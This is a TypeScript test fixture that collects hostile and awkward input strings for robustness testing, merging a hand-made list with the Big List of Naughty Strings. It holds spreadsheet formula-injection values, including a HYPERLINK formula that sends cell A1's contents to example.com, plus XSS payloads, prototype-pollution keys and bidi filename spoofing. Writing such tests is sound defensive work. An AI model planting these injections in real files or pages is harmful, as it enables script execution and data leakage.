import list from "big-list-of-naughty-strings/blns.json" with { type: "json" };

/** Texts that careless code takes for a formula, a number, a date, markup, a pattern or the end of a text. */
const BY_HAND: readonly string[] = [
	'=HYPERLINK("http://example.com/?"&A1;"Click")',
	"=1+1",
	"+1",
	"+B2*2",
	"-2+3",
	"-B2*2",
	"@SUM(A1)",
	" =1+1",
	"\t=1+1",
	"\n=1+1",
	"=",
	"'x",
	"''x''",
	"'",
	"'=1+1",
	"007",
	"1e3",
	"5 %",
	"1/2",
	"2026-11-22",
	"10:30",
	"$ 5",
	"TRUE",
	"_x0041_ is no A",
	"$& $1 $` $' $$",
	"{0} {name} {customer} %s",
	"<img src=x onerror=window.pwned=1>",
	"<svg onload=window.pwned=1>",
	"</script><script>window.pwned=1</script>",
	"</title></style></textarea><script>window.pwned=1</script>",
	"<!--",
	"]]>",
	"&lt;b&gt; &amp; &#60;",
	'" onmouseover="window.pwned=1" x="',
	"javascript:window.pwned=1",
	"constructor",
	"__proto__",
	"toString",
	"שלום, עולם",
	"\u202egnp.exe\u202c",
	"\u2067isolate never ended",
	"zero\u200bwidth\u200c\u200d\ufeff\u2060",
	"line\nline\r\nline\u2028line\u2029line",
	"a\u00a0b\u3000c\ttab",
	`Zalgo ${"a\u0300\u0301\u0302\u0303\u0304\u0305".repeat(40)}`,
	"👩‍👩‍👧‍👦 🇩🇰 🏴󠁧󠁢󠁥󠁮󠁧󠁿",
	"ﷺ ＜script＞ İıſ",
	`as long as a cell takes: ${"=x<b>".repeat(10_000)}`.slice(0, 50_000),
];

/** Texts that count as no name: they mean unknown, or nothing. */
export const NOT_A_NAME: readonly string[] = ["#N/A", "#REF!", "-", "--", "\u200b"];

/** The texts above, then the Big List of Naughty Strings, and last those that count as no name; none twice, none blank. */
export const naughtyTexts: readonly string[] = [
	...[...new Set([...BY_HAND, ...list])].filter((text) => text.trim() !== "" && !NOT_A_NAME.includes(text)),
	...NOT_A_NAME,
];
